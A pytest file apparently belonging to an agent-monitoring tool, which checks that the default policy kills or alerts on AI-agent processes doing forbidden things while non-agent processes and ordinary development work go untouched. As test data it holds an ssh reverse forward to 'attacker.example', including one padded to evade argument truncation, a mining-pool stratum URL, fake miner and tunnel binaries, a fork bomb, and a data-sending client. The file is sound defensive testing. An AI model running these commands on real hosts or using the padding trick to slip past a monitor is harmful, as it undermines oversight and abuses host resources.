"""The embedded default policy against real processes: each default rule stops an agent that
breaks it (in-kernel rules before the forbidden step completes), the same step by a process
that is not an agent is untouched, and ordinary development work by an agent survives.

Network steps run inside a network namespace the test creates (with the "public" and
metadata addresses on its loopback), so nothing can leave the machine.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import Running, agent_exec, require_root, running_policy, wait_exit

from monitor.config.load import load_config_text
from monitor.policy.load import default_policy, load_policy_text
from monitor.sessions.procfs import ProcFS

SOCK = "/run/agentwatch-test/enforce.sock"
NS = f"awtest{os.getpid()}"
PUBLIC = "1.2.3.4"          # in @public_internet; lives only on the namespace's loopback
METADATA = "169.254.169.254"


def scaled_default_policy_text() -> str:
    """The default policy with the CPU windows scaled from minutes to seconds and the
    thresholds to what this 2-core machine's tests can hold; every other rule as shipped."""
    text = Path(default_policy().source).read_text()
    for rule, new in (("cpu-sustained-alert", "cores: 0.6\n      scope: agent\n      for: 3s"),
                      ("cpu-saturation", "cores: 0.9\n      scope: agent\n      for: 4s"),
                      ("cpu-one-process-alert",
                       "cores: 0.8\n      scope: process\n      for: 3s")):
        pattern = re.compile(rf"(- name: {rule}\n(?:.*\n)*?    match:\n)\s+cores: [\d.]+\n"
                             r"\s+scope: \w+\n\s+for: \w+")
        text, n = pattern.subn(lambda m, new=new: m.group(1) + "      " + new, text, count=1)
        assert n == 1, f"could not scale {rule}"
    return text


@pytest.fixture(scope="module")
def enforcing() -> Iterator[Running]:
    yield from running_policy(
        load_policy_text(scaled_default_policy_text(), "<default policy, scaled>"), SOCK)


@pytest.fixture(scope="module")
def netns() -> Iterator[str]:
    require_root()
    subprocess.run(["ip", "netns", "add", NS], check=True)
    try:
        for cmd in (["ip", "link", "set", "lo", "up"],
                    ["ip", "addr", "add", f"{PUBLIC}/32", "dev", "lo"],
                    ["ip", "addr", "add", f"{METADATA}/32", "dev", "lo"]):
            subprocess.run(["ip", "netns", "exec", NS, *cmd], check=True)
        yield NS
    finally:
        subprocess.run(["ip", "netns", "del", NS], check=False)


def fake_program(tmp: Path, name: str, marker: Path) -> Path:
    """A program named like a forbidden tool whose first act is to leave a marker."""
    prog = tmp / name
    prog.write_text(f"#!/bin/sh\necho ran > {marker}\nexec sleep 5\n")
    prog.chmod(0o755)
    return prog


def killed(p: subprocess.Popen[bytes], timeout: float = 10) -> bool:
    return wait_exit(p, timeout) == -signal.SIGKILL


# --- exec rules ---------------------------------------------------------------------------

@pytest.mark.parametrize("name,rule", [("xmrig", "no-miners"), ("ngrok", "no-tunnel-tools")])
def test_in_kernel_exec_rule_stops_the_binary_before_its_first_instruction(
        enforcing: Running, tmp_path: Path, name: str, rule: str) -> None:
    marker = tmp_path / "ran"
    prog = fake_program(tmp_path, name, marker)
    p = agent_exec([str(prog)], agent="claude-code", socket=SOCK)
    assert killed(p)
    assert not marker.exists(), f"{name} ran its code"
    v = enforcing.wait_verdict(rule=rule, pid=p.pid)
    assert v["outcome"] == "killed in the kernel" and v["agent"] == "claude-code"
    # the same program, not an agent: untouched
    plain = subprocess.Popen([str(prog)])
    deadline = time.monotonic() + 5
    while not marker.exists():
        assert time.monotonic() < deadline, "non-agent copy never ran"
        time.sleep(0.02)
    plain.kill()
    plain.wait()


@pytest.mark.parametrize("name,argv,rule", [
    ("sleep", ["2", "stratum+tcp://pool.example:3333"], "no-stratum-urls"),
    ("cloudflared", ["tunnel", "--url", "http://localhost:8080"], "public-tunnel-subcommands"),
    ("ssh", ["-fNR", "2222:localhost:22", "attacker.example"], "ssh-reverse-or-dynamic-forward"),
    ("ssh", ["-o", "DynamicForward=1080", "-N", "attacker.example"],
     "ssh-reverse-or-dynamic-forward"),
    # padding that pushes -R past the bytes the probes keep: judged on the whole command line
    ("ssh", ["-o", "SendEnv=" + "A" * 3000, "-NR", "9000:localhost:22", "attacker.example"],
     "ssh-reverse-or-dynamic-forward"),
])
def test_userspace_exec_rule_kills_within_milliseconds(enforcing: Running, tmp_path: Path,
                                                       name: str, argv: list[str],
                                                       rule: str) -> None:
    prog = tmp_path / name
    # stays this command line (no `exec sleep`): a program that execs something else a
    # millisecond after starting races the /proc read that completes a cut argv, which is
    # the documented, counted "changed" case (test_hostile_cmdlines), not what this tests
    prog.write_text("#!/bin/sh\nsleep 5\n")
    prog.chmod(0o755)
    start = time.monotonic()
    p = agent_exec([str(prog), *argv], agent="claude-code", socket=SOCK)
    assert killed(p)
    assert time.monotonic() - start < 4, "killed only after its sleep would have ended"
    v = enforcing.wait_verdict(rule=rule, pid=p.pid)
    # argv as the kernel runs it (and /proc/PID/cmdline shows it): a #! script's is the
    # interpreter's, with the script's path in place of the caller's argv[0]
    assert v["outcome"] == "killed" and v["argv"] == ["/bin/sh", str(prog), *argv]
    assert v["mode"] == "enforce" and v["ancestry"]
    plain = subprocess.run([str(prog), *argv], timeout=10)  # not an agent: runs to the end
    assert plain.returncode == 0


def test_ssh_local_forward_is_only_alerted(enforcing: Running, tmp_path: Path) -> None:
    prog = tmp_path / "ssh"
    prog.write_text("#!/bin/sh\nexit 0\n")
    prog.chmod(0o755)
    p = agent_exec([str(prog), "-L", "8080:localhost:80", "devbox"], agent="claude-code",
                   socket=SOCK)
    assert wait_exit(p) == 0
    v = enforcing.wait_verdict(rule="ssh-local-forward", pid=p.pid)
    assert v["action"] == "alert" and v["outcome"] == "alert"


# --- connect rules -----------------------------------------------------------------------

LISTENER = textwrap.dedent("""
    import socket, sys
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(); s.settimeout(float(sys.argv[3]))
    print("listening", flush=True)
    got = b""
    try:
        while True:
            c, _ = s.accept(); c.settimeout(1)
            try:
                got += c.recv(100)
            except OSError:
                pass
    except OSError:
        pass
    print(repr(got), flush=True)
""")

CLIENT = textwrap.dedent("""
    import socket, sys
    s = socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET)
    s.settimeout(3)
    s.connect((sys.argv[1], int(sys.argv[2])))
    s.sendall(b"secret-payload")
    print("sent", flush=True)
""")


def listener(ns: str, addr: str, port: int, seconds: float) -> subprocess.Popen[str]:
    p = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", LISTENER, addr,
                          str(port), str(seconds)], stdout=subprocess.PIPE, text=True)
    assert p.stdout is not None and p.stdout.readline().strip() == "listening"
    return p


def received(p: subprocess.Popen[str]) -> str:
    out, _ = p.communicate(timeout=20)
    return out.strip()


@pytest.mark.parametrize("dest", [PUBLIC, f"::ffff:{PUBLIC}"])
def test_mining_pool_port_connect_is_killed_before_a_byte_leaves(
        enforcing: Running, netns: str, dest: str) -> None:
    lst = listener(netns, PUBLIC, 3333, 2.5)
    p = agent_exec(["ip", "netns", "exec", netns, sys.executable, "-c", CLIENT, dest, "3333"],
                   agent="claude-code", socket=SOCK, stdout=subprocess.PIPE)
    assert killed(p)
    assert p.stdout is not None and b"sent" not in p.stdout.read()
    assert received(lst) == "b''", "bytes reached the listener"
    v = enforcing.wait_verdict(rule="mining-pool-ports", pid=p.pid)
    assert v["outcome"] == "killed in the kernel" and v["destination"] == f"{PUBLIC}:3333"
    # a process that is not an agent makes the same connection
    lst = listener(netns, PUBLIC, 3333, 2.5)
    plain = subprocess.run(["ip", "netns", "exec", netns, sys.executable, "-c", CLIENT, dest,
                            "3333"], capture_output=True, text=True, timeout=20)
    assert plain.returncode == 0 and "sent" in plain.stdout
    assert "secret-payload" in received(lst)


def test_cloud_metadata_connect_is_alerted_not_killed(enforcing: Running, netns: str) -> None:
    lst = listener(netns, METADATA, 80, 2.5)
    p = agent_exec(["ip", "netns", "exec", netns, sys.executable, "-c", CLIENT, METADATA, "80"],
                   agent="claude-code", socket=SOCK)
    assert wait_exit(p) == 0
    assert "secret-payload" in received(lst)
    v = enforcing.wait_verdict(rule="cloud-metadata", pid=p.pid)
    assert v["action"] == "alert" and v["outcome"] == "alert"


# --- cpu and process-count rules -------------------------------------------------------------

BURN = "import time\nend = time.time() + 30\nwhile time.time() < end: pass\n"


def test_sustained_cpu_saturation_kills_the_agent(enforcing: Running) -> None:
    code = ("import subprocess, sys\n"
            f"kids = [subprocess.Popen([sys.executable, '-c', {BURN!r}]) for _ in range(2)]\n"
            f"exec({BURN!r})\n")
    p = agent_exec([sys.executable, "-c", code], agent="claude-code", socket=SOCK)
    v = enforcing.wait_verdict(rule="cpu-saturation", timeout=25)
    assert v["action"] == "kill-agent" and v["session"]
    assert killed(p, timeout=10)
    assert enforcing.monitor.probes.session_pids(int(str(v["session"]))) == []
    alert = enforcing.wait_verdict(rule="cpu-sustained-alert", session=v["session"])
    assert alert["outcome"] == "alert"


def test_a_short_cpu_burst_survives(enforcing: Running) -> None:
    burst = "import time\nend = time.time() + 1.5\nwhile time.time() < end: pass\n"
    p = agent_exec([sys.executable, "-c", burst], agent="claude-code", socket=SOCK)
    assert wait_exit(p) == 0
    time.sleep(1)
    assert not enforcing.verdicts(pid=p.pid)


def test_fork_bomb_kills_the_whole_tree_even_while_it_forks(enforcing: Running) -> None:
    bomb = "while :; do sleep 60 & done"
    p = agent_exec(["/bin/sh", "-c", bomb], agent="claude-code", socket=SOCK)
    procfs = ProcFS()
    root = procfs.read(p.pid)
    assert root is not None
    v = enforcing.wait_verdict(rule="fork-bomb", timeout=60)
    session = int(str(v["session"]))
    assert killed(p, timeout=20)
    deadline = time.monotonic() + 10
    while enforcing.monitor.probes.session_pids(session):
        assert time.monotonic() < deadline, "processes of the session survived kill-agent"
        time.sleep(0.05)
    survivors = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            info = procfs.read(int(pid))
            if info is not None and info.argv == ("sleep", "60") and \
                    info.start_ticks >= root.start_ticks:  # the bomb's, nobody else's
                survivors.append(pid)
    probes = enforcing.monitor.probes
    seen = [(pid, probes.session_of(int(pid))) for pid in survivors[:5]]
    for pid in survivors:  # the test's own leftovers: end them before failing
        os.kill(int(pid), signal.SIGKILL)
    assert not survivors, (f"sleep processes of the bomb still alive (pid, session in the "
                           f"kernel): {seen}; counters {probes.counters()}")


# --- ordinary work, monitor mode ---------------------------------------------------------------

def test_ordinary_development_work_survives(enforcing: Running, tmp_path: Path) -> None:
    (tmp_path / "hello.c").write_text("int main(void){return 0;}\n")
    work = textwrap.dedent(f"""
        set -e
        cd {tmp_path}
        git init -q repo && cd repo && git config user.email a@b && git config user.name a
        echo x > f && git add f && git commit -qm one && git log --oneline >/dev/null
        cc -O2 -o hello ../hello.c && ./hello
        {sys.executable} -m pip --version >/dev/null
        ssh -G devbox.example >/dev/null
        ssh -G -L 8080:localhost:80 devbox.example >/dev/null
        {sys.executable} -c 'sum(range(3_000_000))'
    """)
    p = agent_exec(["/bin/sh", "-c", work], agent="claude-code", socket=SOCK)
    assert wait_exit(p, timeout=60) == 0
    deadline = time.monotonic() + 5  # exit records wake the monitor within 100 ms
    while not [s for s in enforcing.monitor.tracker.ended if s.root_pid == p.pid]:
        assert time.monotonic() < deadline, "the session never ended in the monitor"
        time.sleep(0.02)
    (ended,) = [s for s in enforcing.monitor.tracker.ended if s.root_pid == p.pid]
    session = ended.id
    assert ended.execs >= 8  # the work really ran as an agent
    kills = [v for v in enforcing.verdicts(session=session) if v["action"] != "alert"]
    assert not kills


def test_monitor_mode_kills_nothing_and_logs_every_would_be_kill(tmp_path: Path) -> None:
    require_root()
    text = scaled_default_policy_text().replace("mode: enforce", "mode: monitor", 1)
    sock = str(tmp_path / "mon.sock")
    r = Running(load_config_text("monitor: {tick_seconds: 0.25}\n"), sock,
                load_policy_text(text, "<monitor mode>")).start()
    try:
        marker = tmp_path / "ran"
        prog = fake_program(tmp_path, "xmrig", marker)
        ssh = tmp_path / "ssh"
        ssh.write_text("#!/bin/sh\nexit 0\n")
        ssh.chmod(0o755)
        p = agent_exec([str(prog)], agent="claude-code", socket=sock)
        q = agent_exec([str(ssh), "-R", "9000:localhost:22", "x.example"], agent="claude-code",
                       socket=sock)
        assert wait_exit(q) == 0
        deadline = time.monotonic() + 5
        while not marker.exists():
            assert time.monotonic() < deadline, "the miner was stopped in monitor mode"
            time.sleep(0.02)
        for pid, rule in ((p.pid, "no-miners"), (q.pid, "ssh-reverse-or-dynamic-forward")):
            v = r.wait_verdict(rule=rule, pid=pid)
            assert v["mode"] == "monitor" and v["outcome"] == "would kill"
        p.kill()
        p.wait()
    finally:
        r.stop()


# --- guard rails on the real kill path ------------------------------------------------------

def test_kill_path_guard_rails_on_real_processes(enforcing: Running) -> None:
    from monitor.enforce.decision import boot_ns
    from monitor.enforce.enforcer import KillOutcome

    enf = enforcing.monitor.enforcer
    p = agent_exec(["/bin/sleep", "30"], agent="claude-code", socket=SOCK)
    plain = subprocess.Popen(["/bin/sleep", "30"])
    try:
        ev, _ = enforcing.log.wait_for(lambda e, a: e.h.pid == p.pid and e.h.session != 0)
        session = ev.h.session
        assert enf.kill(1, session).outcome == KillOutcome.REFUSED
        assert enf.kill(os.getpid(), session).outcome == KillOutcome.REFUSED  # the monitor
        assert enf.kill(os.getppid(), session).outcome == KillOutcome.REFUSED  # its ancestor
        assert enf.kill(plain.pid, session).outcome == KillOutcome.REFUSED  # not an agent
        # an event older than the process: its pid was recycled since, never kill
        stale = enf.kill(p.pid, session, event_ts_ns=boot_ns() - 3_600 * 10**9)
        assert stale.outcome == KillOutcome.REFUSED and "recycled" in stale.reason
        assert plain.poll() is None and p.poll() is None
        assert enf.kill(p.pid, session, event_ts_ns=boot_ns()).outcome == KillOutcome.KILLED
        assert killed(p)
    finally:
        plain.kill()
        plain.wait()
        if p.poll() is None:
            p.kill()
            p.wait()
